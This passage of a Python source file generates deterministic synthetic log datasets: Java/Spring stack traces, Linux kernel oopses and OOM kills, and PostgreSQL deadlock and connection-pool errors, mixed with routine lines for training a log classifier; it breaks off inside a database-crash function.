"""Seeded generator of the six synthetic, error-heavy datasets.

loghub samples are mostly routine noise; a classifier trained on them alone sees
few real failures. These datasets add realistic incidents in common formats:
multi-line Java and Python stack traces (``at …(X.java:42)``, ``Caused by:``),
kernel oopses, OOM kills and segfaults, database deadlocks and pool exhaustion,
HTTP 5xx bursts, circuit breakers and retries, brute-force logins and sudo abuse —
mixed with the routine lines around them, and many failures that never say
"ERROR" (a 503 in an access log, an OOM kill, ``Failed password``).

Deterministic: everything comes from one ``random.Random`` seeded from
``(seed, dataset name)`` and a simulated clock, never from the wall clock, so the
same seed gives byte-identical files (and the same sha256) on every machine.
"""

from __future__ import annotations

import hashlib
import random
from collections.abc import Callable
from datetime import datetime, timedelta

DEFAULT_SEED = 20250310
MIN_LINES, MAX_LINES = 420, 600  # target is drawn in [MIN_LINES, MAX_LINES - 20]

Event = list[str]


def _rng(name: str, seed: int) -> random.Random:
    digest = hashlib.sha256(f"{seed}:{name}".encode()).digest()
    return random.Random(int.from_bytes(digest[:8], "big"))


class Clock:
    """Simulated time that only moves forward, by random steps."""

    def __init__(self, rng: random.Random, start: datetime):
        self.rng = rng
        self.now = start
        self.start = start

    def tick(self, lo_ms: int = 5, hi_ms: int = 4000) -> datetime:
        self.now += timedelta(milliseconds=self.rng.randint(lo_ms, hi_ms))
        return self.now

    @property
    def uptime(self) -> float:
        """Seconds since boot, as the kernel prints them."""
        return 3.0 + (self.now - self.start).total_seconds()


_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_EPOCH = datetime(1970, 1, 1)


def _mon(t: datetime) -> str:
    """``%b`` without the locale: the generator must not depend on the machine."""
    return _MONTHS[t.month - 1]


def _syslog_ts(t: datetime) -> str:
    return f"{_mon(t)} {t.day:2d} {t:%H:%M:%S}"


def _epoch(t: datetime) -> float:
    """Seconds since the epoch for a naive UTC time (``.timestamp()`` would use local time)."""
    return (t - _EPOCH).total_seconds()


def _hex(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def _ip(rng: random.Random, private: bool = False) -> str:
    if private:
        return f"10.{rng.randint(0, 3)}.{rng.randint(0, 12)}.{rng.randint(2, 250)}"
    return (
        f"{rng.choice([23, 45, 61, 77, 89, 103, 118, 141, 176, 185, 194, 203])}."
        f"{rng.randint(1, 254)}.{rng.randint(0, 254)}.{rng.randint(1, 254)}"
    )


def _build(
    rng: random.Random,
    start: list[str],
    events: list[tuple[int, Callable[[], Event]]],
    end: Callable[[], Event] | None = None,
) -> str:
    """Draw weighted events until the target length; never exceed ``MAX_LINES``."""
    lines = list(start)
    target = rng.randint(MIN_LINES, MAX_LINES - 20)
    weights = [w for w, _ in events]
    makers = [m for _, m in events]
    once = list(makers)  # every kind of event shows up at least once (rarely later than ~70)
    rng.shuffle(once)
    while len(lines) < target:
        make = once.pop() if once and rng.random() < 0.15 else rng.choices(makers, weights)[0]
        event = make()
        if len(lines) + len(event) <= MAX_LINES - 5:
            lines.extend(event)
    if end:
        lines.extend(end())
    return "\n".join(lines) + "\n"


# =========================================================================== JavaApp

_JAVA_LOGGERS = {
    "web": "o.s.web.servlet.DispatcherServlet",
    "ctl": "c.a.shop.web.OrderController",
    "svc": "c.a.shop.service.OrderService",
    "pay": "c.a.shop.payment.PaymentClient",
    "hikari": "com.zaxxer.hikari.pool.HikariPool",
    "kafka": "o.a.k.c.c.internals.ConsumerCoordinator",
    "sched": "c.a.shop.jobs.ExchangeRateRefresher",
    "cb": "i.g.r.c.i.CircuitBreakerStateMachine",
    "retry": "i.g.resilience4j.retry.Retry",
    "tomcat": "o.a.c.c.C.[.[.[/].[dispatcherServlet]",
    "cache": "c.a.shop.cache.CatalogCache",
}

_JAVA_FRAMES = [
    "com.acme.shop.service.OrderService.placeOrder(OrderService.java:{n})",
    "com.acme.shop.service.PricingService.discountFor(PricingService.java:{n})",
    "com.acme.shop.repository.OrderRepository.saveAndFlush(OrderRepository.java:{n})",
    "com.acme.shop.web.OrderController.create(OrderController.java:{n})",
    "com.acme.shop.payment.PaymentClient.authorize(PaymentClient.java:{n})",
    "com.acme.shop.inventory.StockService.reserve(StockService.java:{n})",
]
_SPRING_FRAMES = [
    "org.springframework.aop.framework.CglibAopProxy$DynamicAdvisedInterceptor"
    ".intercept(CglibAopProxy.java:{n})",
    "org.springframework.transaction.interceptor.TransactionInterceptor.invoke"
    "(TransactionInterceptor.java:{n})",
    "org.springframework.web.servlet.FrameworkServlet.processRequest(FrameworkServlet.java:{n})",
    "org.springframework.web.servlet.DispatcherServlet.doDispatch(DispatcherServlet.java:{n})",
    "jakarta.servlet.http.HttpServlet.service(HttpServlet.java:{n})",
    "org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:{n})",
    "org.apache.tomcat.util.net.NioEndpoint$SocketProcessor.doRun(NioEndpoint.java:{n})",
    "java.base/java.util.concurrent.ThreadPoolExecutor.runWorker(ThreadPoolExecutor.java:1144)",
    "java.base/java.lang.Thread.run(Thread.java:1583)",
]


def _java_app(rng: random.Random) -> str:
    clock = Clock(rng, datetime(2025, 3, 10, 8, 0, 0))
    pid = rng.randint(2000, 9000)
    threads = [f"http-nio-8080-exec-{i}" for i in range(1, 11)]

    def line(level: str, thread: str, logger: str, msg: str) -> str:
        ts = clock.now.strftime("%Y-%m-%dT%H:%M:%S.") + f"{clock.now.microsecond // 1000:03d}Z"
        return f"{ts} {level:>5} {pid} --- [{thread[-15:]:>15}] {logger:<40.40} : {msg}"

    def req() -> str:
        return _hex(rng, 16)

    def frames(k: int, own: int = 3) -> list[str]:
        out = [
            f"\tat {rng.choice(_JAVA_FRAMES).format(n=rng.randint(30, 480))}" for _ in range(own)
        ]
        tail = rng.sample(_SPRING_FRAMES[:-2], k=min(k, len(_SPRING_FRAMES) - 2))
        out += [f"\tat {f.format(n=rng.randint(60, 1100))}" for f in tail]
        return out + [f"\tat {f}" for f in _SPRING_FRAMES[-2:]]

    start = []
    for logger, msg in [
        (
            "c.a.shop.ShopApplication",
            f"Starting ShopApplication v3.7.2 using Java 21.0.3 with PID {pid}",
        ),
        ("c.a.shop.ShopApplication", 'The following 1 profile is active: "prod"'),
        ("o.s.b.w.embedded.tomcat.TomcatWebServer", "Tomcat initialized with port 8080 (http)"),
        ("com.zaxxer.hikari.HikariDataSource", "HikariPool-1 - Starting..."),
        (
            _JAVA_LOGGERS["hikari"],
            "HikariPool-1 - Added connection org.postgresql.jdbc.PgConnection@4f8a2c1e",
        ),
        ("com.zaxxer.hikari.HikariDataSource", "HikariPool-1 - Start completed."),
        (
            "o.s.b.w.embedded.tomcat.TomcatWebServer",
            "Tomcat started on port 8080 (http) with context path ''",
        ),
        (
            "c.a.shop.ShopApplication",
            f"Started ShopApplication in {rng.uniform(7, 14):.3f} seconds",
        ),
    ]:
        clock.tick(50, 900)
        start.append(line("INFO", "main", logger, msg))

    def ok_request() -> Event:
        clock.tick(20, 1500)
        method, path, code = rng.choice(
            [
                ("GET", "/api/v1/products", 200),
                ("GET", "/api/v1/orders/{id}", 200),
                ("POST", "/api/v1/orders", 201),
                ("GET", "/api/v1/cart", 200),
                ("PUT", "/api/v1/cart/items", 204),
            ]
        )
        path = path.replace("{id}", str(rng.randint(10000, 99999)))
        return [
            line(
                "INFO",
                rng.choice(threads),
                _JAVA_LOGGERS["ctl"],
                f"[req={req()}] {method} {path} -> {code} in {rng.randint(4, 180)}ms",
            )
        ]

    def debug_sql() -> Event:
        clock.tick(5, 300)
        t = rng.choice(["orders", "order_items", "customers", "products"])
        return [
            line(
                "DEBUG",
                rng.choice(threads),
                "org.hibernate.SQL",
                f"select o1_0.id,o1_0.status,o1_0.total from {t} o1_0 where o1_0.id=?",
            )
        ]

    def scheduled() -> Event:
        clock.tick(500, 6000)
        return [
            line(
                "INFO",
                "scheduling-1",
                _JAVA_LOGGERS["sched"],
                f"Refreshed {rng.randint(150, 170)} exchange rates in {rng.randint(80, 400)}ms",
            )
        ]

    def kafka_commit() -> Event:
        clock.tick(100, 3000)
        return [
            line(
                "INFO",
                "kafka-consumer-1",
                _JAVA_LOGGERS["kafka"],
                f"[Consumer clientId=shop-1, groupId=shop] Committed offset "
                f"{rng.randint(100000, 999999)} for partition orders-{rng.randint(0, 5)}",
            )
        ]

    def npe() -> Event:
        clock.tick(50, 2000)
        field_ = rng.choice(
            [
                ("Customer", "getTier", "customer"),
                ("Address", "getCountry", "shipping"),
                ("Product", "getPrice", "product"),
            ]
        )
        cls, meth, var = field_
        msg = f'Cannot invoke "com.acme.shop.model.{cls}.{meth}()" because "{var}" is null'
        return [
            line(
                "ERROR",
                rng.choice(threads),
                _JAVA_LOGGERS["tomcat"],
                "Servlet.service() for servlet [dispatcherServlet] in context with path [] "
                f"threw exception [Request processing failed: java.lang.NullPointerException:"
                f" {msg}] with root cause",
            ),
            f"java.lang.NullPointerException: {msg}",
            *frames(rng.randint(3, 6)),
        ]

    def pool_exhausted() -> Event:
        clock.tick(50, 1500)
        t = rng.choice(threads)
        n = rng.randint(30, 60)
        return [
            line(
                "WARN",
                "HikariPool-1 housekeeper",
                _JAVA_LOGGERS["hikari"],
                f"HikariPool-1 - Pool stats (total=20, active=20, idle=0, waiting={n})",
            ),
            line(
                "ERROR",
                t,
                _JAVA_LOGGERS["svc"],
                f"[req={req()}] Failed to place order for customer {rng.randint(1000, 9999)}",
            ),
            "org.springframework.transaction.CannotCreateTransactionException: Could not open "
            "JPA EntityManager for transaction",
            *frames(2, 2)[:4],
            "Caused by: org.hibernate.exception.JDBCConnectionException: Unable to acquire "
            "JDBC Connection",
            f"\tat org.hibernate.exception.internal.SQLStateConversionDelegate.convert"
            f"(SQLStateConversionDelegate.java:{rng.randint(90, 120)})",
            f"\t... {rng.randint(40, 90)} common frames omitted",
            "Caused by: java.sql.SQLTransientConnectionException: HikariPool-1 - Connection "
            "is not available, request timed out after 30000ms (total=20, active=20, idle=0, "
            f"waiting={n})",
            f"\tat com.zaxxer.hikari.pool.HikariPool.createTimeoutException"
            f"(HikariPool.java:{rng.randint(680, 700)})",
            "\tat com.zaxxer.hikari.pool.HikariPool.getConnection(HikariPool.java:181)",
            f"\t... {rng.randint(40, 90)} common frames omitted",
        ]

    def constraint() -> Event:
        clock.tick(50, 2000)
        ref = f"ORD-{rng.randint(100000, 999999)}"
        return [
            line(
                "ERROR",
                rng.choice(threads),
                _JAVA_LOGGERS["svc"],
                f"[req={req()}] Order {ref} could not be saved",
            ),
            "org.springframework.dao.DataIntegrityViolationException: could not execute "
            "statement [ERROR: duplicate key value violates unique constraint "
            '"uk_orders_reference"]',
            *frames(2, 2)[:3],
            "Caused by: org.postgresql.util.PSQLException: ERROR: duplicate key value "
            'violates unique constraint "uk_orders_reference"',
            f"  Detail: Key (reference)=({ref}) already exists.",
            "\tat org.postgresql.core.v3.QueryExecutorImpl.receiveErrorResponse"
            f"(QueryExecutorImpl.java:{rng.randint(2700, 2750)})",
            f"\t... {rng.randint(20, 60)} common frames omitted",
        ]

    def retry_then_breaker() -> Event:
        out = []
        for attempt in range(1, rng.randint(3, 4) + 1):
            clock.tick(400, 2500)
            out.append(
                line(
                    "WARN",
                    rng.choice(threads),
                    _JAVA_LOGGERS["retry"],
                    f"Retry 'paymentClient', waiting PT{attempt}S until attempt "
                    f"'{attempt + 1}'. Last attempt failed with exception "
                    "'java.net.SocketTimeoutException: Read timed out'",
                )
            )
        clock.tick(10, 200)
        out.append(
            line(
                "INFO",
                rng.choice(threads),
                _JAVA_LOGGERS["cb"],
                "CircuitBreaker 'paymentClient' changed state from CLOSED to OPEN",
            )
        )
        for _ in range(rng.randint(1, 3)):
            clock.tick(50, 900)
            out.append(
                line(
                    "WARN",
                    rng.choice(threads),
                    _JAVA_LOGGERS["pay"],
                    f"[req={req()}] CallNotPermittedException: CircuitBreaker "
                    "'paymentClient' is OPEN and does not permit further calls",
                )
            )
        clock.tick(30000, 60000)
        out.append(
            line(
                "INFO",
                "parallel-3",
                _JAVA_LOGGERS["cb"],
                "CircuitBreaker 'paymentClient' changed state from OPEN to HALF_OPEN",
            )
        )
        return out

    def gc_pause() -> Event:
        clock.tick(100, 4000)
        before = rng.randint(3800, 4090)
        return [
            f"[{clock.uptime:.3f}s][info][gc] GC({rng.randint(200, 4000)}) Pause Full "
            f"(G1 Compaction Pause) {before}M->{before - rng.randint(5, 60)}M(4096M) "
            f"{rng.uniform(1200, 4800):.3f}ms"
        ]

    def oom() -> Event:
        clock.tick(100, 3000)
        return [
            'Exception in thread "kafka-consumer-1" java.lang.OutOfMemoryError: Java heap space',
            "\tat java.base/java.util.Arrays.copyOf(Arrays.java:3537)",
            "\tat java.base/java.util.ArrayList.grow(ArrayList.java:237)",
            f"\tat com.acme.shop.events.OrderEventHandler.buffer(OrderEventHandler.java:"
            f"{rng.randint(40, 140)})",
            "\tat org.apache.kafka.clients.consumer.KafkaConsumer.poll(KafkaConsumer.java:1254)",
        ]

    def slow() -> Event:
        clock.tick(100, 3000)
        return [
            line(
                "WARN",
                rng.choice(threads),
                _JAVA_LOGGERS["web"],
                f"[req={req()}] Slow request: GET /api/v1/orders/search took "
                f"{rng.randint(5000, 30000)}ms (threshold 2000ms)",
            )
        ]

    def cache_evict() -> Event:
        clock.tick(1000, 8000)
        return [
            line(
                "INFO",
                "scheduling-1",
                _JAVA_LOGGERS["cache"],
                f"Evicted {rng.randint(10, 900)} expired catalog entries",
            )
        ]

    def end() -> Event:
        clock.tick(1000, 5000)
        return [
            line(
                "INFO",
                "SpringApplicationShutdownHook",
                "o.s.b.w.e.tomcat.GracefulShutdown",
                "Commencing graceful shutdown. Waiting for active requests to complete",
            ),
            line(
                "INFO",
                "SpringApplicationShutdownHook",
                _JAVA_LOGGERS["hikari"],
                "HikariPool-1 - Shutdown completed.",
            ),
        ]

    return _build(
        rng,
        start,
        [
            (30, ok_request),
            (10, debug_sql),
            (5, scheduled),
            (6, kafka_commit),
            (4, cache_evict),
            (5, npe),
            (3, pool_exhausted),
            (3, constraint),
            (2, retry_then_breaker),
            (4, gc_pause),
            (1, oom),
            (4, slow),
        ],
        end,
    )


# =========================================================================== KernelErrors


def _kernel_errors(rng: random.Random) -> str:
    clock = Clock(rng, datetime(2025, 3, 11, 2, 14, 0))
    host = "db-node-07"

    def syslog(tag: str, msg: str) -> str:
        return f"{_syslog_ts(clock.now)} {host} {tag}: {msg}"

    def kern(msg: str) -> str:
        return syslog("kernel", f"[{clock.uptime:12.6f}] {msg}")

    def k(msg: str) -> str:
        clock.tick(0, 3)
        return kern(msg)

    start = []
    for msg in [
        "Linux version 6.1.0-18-amd64 (debian-kernel@lists.debian.org) "
        "(gcc-12 (Debian 12.2.0-14) 12.2.0) #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1",
        "Command line: BOOT_IMAGE=/boot/vmlinuz-6.1.0-18-amd64 root=UUID="
        "3f1c8e2a-77d0-4c1e-9a43-0b5f2d9c6e11 ro quiet",
        "DMI: Supermicro SYS-1029P-WTR/X11DDW-L, BIOS 3.8a 10/28/2023",
        "Memory: 263540120K/268262628K available",
        "smpboot: Allowing 32 CPUs, 0 hotplug CPUs",
    ]:
        clock.tick(5, 80)
        start.append(kern(msg))

    def routine() -> Event:
        clock.tick(500, 20000)
        tag, msg = rng.choice(
            [
                (
                    "systemd[1]",
                    f"Started session-{rng.randint(100, 999)}.scope - Session "
                    f"{rng.randint(100, 999)} of User ops.",
                ),
                (
                    f"CRON[{rng.randint(1000, 30000)}]",
                    "(root) CMD (/usr/lib/sysstat/debian-sa1 1 1)",
                ),
                ("systemd[1]", "Starting logrotate.service - Rotate log files..."),
                ("systemd[1]", "logrotate.service: Deactivated successfully."),
                (f"systemd-logind[{rng.randint(700, 900)}]", "New session 42 of user ops."),
                (
                    f"chronyd[{rng.randint(600, 700)}]",
                    f"Selected source 10.0.0.{rng.randint(1, 4)}",
                ),
            ]
        )
        return [syslog(tag, msg)]

    def kroutine() -> Event:
        clock.tick(500, 20000)
        return [
            kern(
                rng.choice(
                    [
                        "ixgbe 0000:3b:00.0 eth0: NIC Link is Up 10 Gbps, Flow Control: RX/TX",
                        f"EXT4-fs (nvme0n1p2): mounted filesystem {_hex(rng, 8)}-7c1e with ordered data mode",
                        'audit: type=1400 apparmor="STATUS" operation="profile_replace" '
                        'name="/usr/sbin/chronyd" pid=1 comm="apparmor_parser"',
                        f"IPv6: ADDRCONF(NETDEV_CHANGE): veth{_hex(rng, 7)}: link becomes ready",
                        f"docker0: port {rng.randint(1, 9)}(veth{_hex(rng, 7)}) entered forwarding state",
                    ]
                )
            )
        ]

    def call_trace(funcs: list[str]) -> list[str]:
        out = [k("Call Trace:"), k(" <TASK>")]
        out += [k(f" {f}+0x{rng.randint(16, 700):x}/0x{rng.randint(700, 1200):x}") for f in funcs]
        return [*out, k(" </TASK>")]

    def oom_kill() -> Event:
        clock.tick(1000, 30000)
        victim, vpid = rng.choice(
            [
                ("postgres", rng.randint(3000, 9000)),
                ("java", rng.randint(3000, 9000)),
                ("python3", rng.randint(3000, 9000)),
            ]
        )
        out = [
            kern(
                f"{victim} invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|"
                "__GFP_COMP), order=0, oom_score_adj=0"
            ),
            k(
                f"CPU: {rng.randint(0, 31)} PID: {vpid} Comm: {victim} Not tainted "
                "6.1.0-18-amd64 #1  Debian 6.1.76-1"
            ),
            k("Hardware name: Supermicro SYS-1029P-WTR/X11DDW-L, BIOS 3.8a 10/28/2023"),
        ]
        out += call_trace(
            [
                "dump_stack_lvl",
                "dump_header",
                "oom_kill_process.cold",
                "out_of_memory",
                "__alloc_pages_slowpath.constprop.0",
                "__alloc_pages",
                "folio_alloc",
                "__filemap_get_folio",
                "filemap_fault",
                "__do_fault",
                "handle_mm_fault",
                "exc_page_fault",
                "asm_exc_page_fault",
            ]
        )
        total = rng.randint(20_000_000, 90_000_000)
        rss = rng.randint(total // 3, total - 1000)
        out += [
            k("Mem-Info:"),
            k(
                f"active_anon:{rng.randint(10**6, 9 * 10**6)} inactive_anon:"
                f"{rng.randint(10**5, 10**6)} isolated_anon:0"
            ),
            k(
                "oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0-1,"
                f"global_oom,task_memcg=/system.slice/{victim}.service,task={victim},"
                f"pid={vpid},uid=0"
            ),
            k(
                f"Out of memory: Killed process {vpid} ({victim}) total-vm:{total}kB, "
                f"anon-rss:{rss}kB, file-rss:{rng.randint(1000, 90000)}kB, shmem-rss:0kB, "
                f"UID:0 pgtables:{rng.randint(10000, 99999)}kB oom_score_adj:0"
            ),
            k(
                f"oom_reaper: reaped process {vpid} ({victim}), now anon-rss:0kB, "
                "file-rss:0kB, shmem-rss:0kB"
            ),
        ]
        clock.tick(100, 900)
        out += [
            syslog(
                "systemd[1]",
                f"{victim}.service: A process of this unit has been killed by the OOM killer.",
            ),
            syslog(
                "systemd[1]", f"{victim}.service: Main process exited, code=killed, status=9/KILL"
            ),
            syslog("systemd[1]", f"{victim}.service: Failed with result 'oom-kill'."),
        ]
        return out

    def segfault() -> Event:
        clock.tick(1000, 30000)
        prog = rng.choice(["python3", "node", "nginx", "pgbouncer"])
        ip = f"00007f{_hex(rng, 10)}"
        addr = rng.choice(["0", "8", "18"])
        return [
            kern(
                f"{prog}[{rng.randint(2000, 40000)}]: segfault at {addr}"
                f" ip {ip} sp 00007ffd{_hex(rng, 8)} error {rng.choice([4, 6])} in "
                f"libc.so.6[7f{_hex(rng, 10)}+155000] likely on CPU {rng.randint(0, 31)} "
                f"(core {rng.randint(0, 15)}, socket {rng.randint(0, 1)})"
            ),
            k(
                "Code: 48 8b 45 f8 48 89 c7 e8 9d fe ff ff 48 8b 45 f8 <0f> b6 00 84 c0 75 "
                "e3 90 c9 c3 55 48 89 e5 48 83 ec 20"
            ),
        ]

    def null_deref() -> Event:
        clock.tick(1000, 30000)
        cpu = rng.randint(0, 31)
        out = [
            kern("BUG: kernel NULL pointer dereference, address: 0000000000000008"),
            k("#PF: supervisor read access in kernel mode"),
            k("#PF: error_code(0x0000) - not-present page"),
            k("PGD 0 P4D 0"),
            k("Oops: 0000 [#1] PREEMPT SMP NOPTI"),
            k(
                f"CPU: {cpu} PID: {rng.randint(100, 900)} Comm: kworker/{cpu}:1H Tainted: G"
                "           O       6.1.0-18-amd64 #1  Debian 6.1.76-1"
            ),
            k(f"RIP: 0010:nvme_poll_cq+0x{rng.randint(40, 120):x}/0x2d0 [nvme]"),
            k(f"RSP: 0018:ffffb1c2{_hex(rng, 8)} EFLAGS: 00010246"),
        ]
        out += call_trace(
            [
                "nvme_irq",
                "__handle_irq_event_percpu",
                "handle_irq_event",
                "handle_edge_irq",
                "__common_interrupt",
                "common_interrupt",
            ]
        )
        return [*out, k("---[ end trace 0000000000000000 ]---")]

    def hung_task() -> Event:
        clock.tick(1000, 30000)
        task = rng.choice(["jbd2/nvme0n1p2-8", "postgres", "kworker/u64:3"])
        return [
            kern(
                f"INFO: task {task}:{rng.randint(300, 9000)} blocked for more than "
                f"{rng.choice([120, 241, 362])} seconds."
            ),
            k("      Not tainted 6.1.0-18-amd64 #1 Debian 6.1.76-1"),
            k('"echo 0 > /proc/sys/kernel/hung_task_timeout_secs" disables this message.'),
            *call_trace(
                [
                    "__schedule",
                    "schedule",
                    "io_schedule",
                    "bit_wait_io",
                    "__wait_on_bit",
                    "jbd2_journal_commit_transaction",
                ]
            ),
        ]

    def disk_errors() -> Event:
        clock.tick(1000, 30000)
        sector = rng.randint(10**6, 10**9)
        out = [
            kern(
                f"nvme nvme1: I/O {rng.randint(1, 999)} QID {rng.randint(1, 16)} timeout, aborting"
            ),
            k(f"nvme nvme1: Abort status: 0x{rng.choice([0, 371]):x}"),
        ]
        for i in range(rng.randint(1, 3)):
            out.append(
                k(
                    f"I/O error, dev nvme1n1, sector {sector + 8 * i} op 0x1:(WRITE) flags "
                    "0x800 phys_seg 1 prio class 2"
                )
            )
        if rng.random() < 0.5:
            out += [
                k(
                    "EXT4-fs error (device nvme1n1p1): ext4_journal_check_start:83: "
                    "comm postgres: Detected aborted journal"
                ),
                k("EXT4-fs (nvme1n1p1): Remounting filesystem read-only"),
            ]
        return out

    def soft_lockup() -> Event:
        clock.tick(1000, 30000)
        cpu = rng.randint(0, 31)
        return [
            kern(
                f"watchdog: BUG: soft lockup - CPU#{cpu} stuck for {rng.randint(22, 67)}s! "
                f"[kworker/{cpu}:2:{rng.randint(200, 9000)}]"
            ),
            k(f"rcu: INFO: rcu_preempt self-detected stall on CPU {cpu}"),
        ]

    def hardware() -> Event:
        clock.tick(1000, 30000)
        return [
            kern(
                rng.choice(
                    [
                        "mce: [Hardware Error]: Machine check events logged",
                        f"EDAC MC0: 1 CE memory read error on CPU_SrcID#0_Ha#0_Chan#1_DIMM#0 "
                        f"(channel:1 slot:0 page:0x{_hex(rng, 6)} offset:0x0 grain:32 syndrome:0x0)",
                        f"CPU{rng.randint(0, 31)}: Core temperature above threshold, cpu clock throttled "
                        f"(total events = {rng.randint(1, 5000)})",
                        "ixgbe 0000:3b:00.1 eth1: NIC Link is Down",
                        f"NETDEV WATCHDOG: eth1 (ixgbe): transmit queue {rng.randint(0, 7)} timed out "
                        f"{rng.randint(5000, 9000)} ms",
                        "nf_conntrack: nf_conntrack: table full, dropping packet",
                        "TCP: request_sock_TCP: Possible SYN flooding on port 5432. Sending cookies.",
                    ]
                )
            )
        ]

    return _build(
        rng,
        start,
        [
            (55, routine),
            (30, kroutine),
            (3, oom_kill),
            (5, segfault),
            (1, null_deref),
            (2, hung_task),
            (5, disk_errors),
            (3, soft_lockup),
            (8, hardware),
        ],
    )


# =========================================================================== DatabaseErrors


def _database_errors(rng: random.Random) -> str:
    clock = Clock(rng, datetime(2025, 3, 12, 14, 30, 0))
    apps = ["order-api", "billing-worker", "reporting", "psql"]

    def pg(level: str, msg: str, who: str = "app@orders", pid: int | None = None) -> str:
        ts = clock.now.strftime("%Y-%m-%d %H:%M:%S.") + f"{clock.now.microsecond // 1000:03d}"
        pid = pid or rng.randint(1000, 60000)
        return f"{ts} UTC [{pid}] {who} {level}:  {msg}"

    def bouncer(level: str, msg: str) -> str:
        ts = clock.now.strftime("%Y-%m-%d %H:%M:%S.") + f"{clock.now.microsecond // 1000:03d}"
        return f"{ts} UTC [812] {level} {msg}"

    start = []
    for msg in [
        "starting PostgreSQL 16.2 (Debian 16.2-1.pgdg120+2) on x86_64-pc-linux-gnu",
        'listening on IPv4 address "0.0.0.0", port 5432',
        "database system was shut down at 2025-03-12 14:28:51 UTC",
        "database system is ready to accept connections",
    ]:
        clock.tick(10, 900)
        start.append(pg("LOG", msg, who="@"))

    def connection() -> Event:
        clock.tick(50, 4000)
        pid, host = rng.randint(1000, 60000), _ip(rng, private=True)
        port = rng.randint(30000, 65000)
        app = rng.choice(apps)
        out = [
            pg("LOG", f"connection received: host={host} port={port}", "[unknown]@[unknown]", pid)
        ]
        clock.tick(1, 20)
        out.append(
            pg(
                "LOG",
                f"connection authorized: user=app database=orders application_name={app}",
                pid=pid,
            )
        )
        if rng.random() < 0.5:
            clock.tick(500, 9000)
            out.append(
                pg(
                    "LOG",
                    f"disconnection: session time: 0:00:{rng.randint(1, 59):02d}."
                    f"{rng.randint(0, 999):03d} user=app database=orders "
                    f"host={host} port={port}",
                    pid=pid,
                )
            )
        return out

    def checkpoint() -> Event:
        clock.tick(2000, 30000)
        out = [pg("LOG", "checkpoint starting: time", who="@")]
        clock.tick(5000, 30000)
        n = rng.randint(200, 40000)
        out.append(
            pg(
                "LOG",
                f"checkpoint complete: wrote {n} buffers ({n / 1310.72:.1f}%); "
                f"0 WAL file(s) added, 0 removed, {rng.randint(0, 9)} recycled; "
                f"write={rng.uniform(1, 200):.3f} s, sync={rng.uniform(0, 2):.3f} s,"
                f" total={rng.uniform(1, 210):.3f} s",
                who="@",
            )
        )
        return out

    def vacuum() -> Event:
        clock.tick(2000, 20000)
        t = rng.choice(["orders", "order_items", "payments", "sessions"])
        return [
            pg("LOG", f'automatic vacuum of table "orders.public.{t}": index scans: 1', who="@"),
            pg(
                "LOG",
                f'automatic analyze of table "orders.public.{t}" '
                f"avg read rate: {rng.uniform(0, 80):.3f} MB/s",
                who="@",
            ),
        ]

    def fast_stmt() -> Event:
        clock.tick(10, 2000)
        return [
            pg(
                "LOG",
                f"duration: {rng.uniform(0.05, 40):.3f} ms  statement: SELECT id, "
                f"status FROM orders WHERE customer_id = {rng.randint(1, 99999)}",
            )
        ]

    def slow_query() -> Event:
        clock.tick(100, 8000)
        q = rng.choice(
            [
                "SELECT o.*, c.email FROM orders o JOIN customers c ON c.id = o.customer_id "
                "WHERE o.created_at > now() - interval '90 days' ORDER BY o.total DESC",
                "UPDATE order_items SET price = p.price FROM products p WHERE p.id = "
                "order_items.product_id",
                "SELECT count(*) FROM events WHERE payload->>'type' = 'checkout'",
            ]
        )
        return [
            pg(
                "LOG",
                f"duration: {rng.uniform(2500, 95000):.3f} ms  statement: {q}",
                who="app@orders",
            )
        ]

    def deadlock() -> Event:
        clock.tick(100, 8000)
        p1, p2 = rng.randint(1000, 60000), rng.randint(1000, 60000)
        x1, x2 = rng.randint(10**6, 9 * 10**6), rng.randint(10**6, 9 * 10**6)
        return [
            pg("ERROR", "deadlock detected", pid=p1),
            pg(
                "DETAIL",
                f"Process {p1} waits for ShareLock on transaction {x2}; blocked by process {p2}.",
                pid=p1,
            ),
            f"\tProcess {p2} waits for ShareLock on transaction {x1}; blocked by process {p1}.",
            f"\tProcess {p1}: UPDATE payments SET status = 'captured' WHERE order_id = "
            f"{rng.randint(1, 99999)}",
            f"\tProcess {p2}: UPDATE orders SET status = 'paid' WHERE id = {rng.randint(1, 99999)}",
            pg("HINT", "See server log for query details.", pid=p1),
            pg(
                "CONTEXT",
                f"while updating tuple ({rng.randint(0, 999)},{rng.randint(1, 60)}) "
                'in relation "payments"',
                pid=p1,
            ),
            pg("STATEMENT", "UPDATE payments SET status = 'captured' WHERE order_id = $1", pid=p1),
        ]

    def serialization() -> Event:
        clock.tick(100, 8000)
        pid = rng.randint(1000, 60000)
        return [
            pg("ERROR", "could not serialize access due to concurrent update", pid=pid),
            pg(
                "STATEMENT", "UPDATE inventory SET reserved = reserved + $1 WHERE sku = $2", pid=pid
            ),
        ]

    def timeout() -> Event:
        clock.tick(100, 8000)
        pid = rng.randint(1000, 60000)
        return [
            pg("ERROR", "canceling statement due to statement timeout", pid=pid),
            pg(
                "STATEMENT",
                "SELECT * FROM order_report_v WHERE month = $1",
                pid=pid,
                who="reporting@orders",
            ),
        ]

    def pool_exhaustion() -> Event:
        out = []
        for _ in range(rng.randint(2, 5)):
            clock.tick(5, 400)
            out.append(
                pg(
                    "FATAL",
                    "remaining connection slots are reserved for roles with the "
                    "SUPERUSER attribute",
                    who="app@orders",
                )
            )
        for _ in range(rng.randint(1, 4)):
            clock.tick(5, 400)
            out.append(
                bouncer(
                    "WARNING",
                    f"C-0x{_hex(rng, 12)}: orders/app@"
                    f"{_ip(rng, private=True)}:{rng.randint(30000, 65000)} "
                    "pooler error: no more connections allowed "
                    "(max_client_conn)",
                )
            )
        clock.tick(5, 400)
        out.append(
            bouncer(
                "LOG",
                f"stats: {rng.randint(100, 900)} xacts/s, "
                f"{rng.randint(100, 900)} queries/s, "
                f"wait {rng.randint(200000, 9000000)} us",
            )
        )
        return out

    def client_reset() -> Event:
        clock.tick(100, 8000)
        return [
            pg("LOG", "could not receive data from client: Connection reset by peer"),
            pg("LOG", "unexpected EOF on client connection with an open transaction"),
        ]

    def crash_recovery() -> Event:
        clock.tick(1000, 30000)
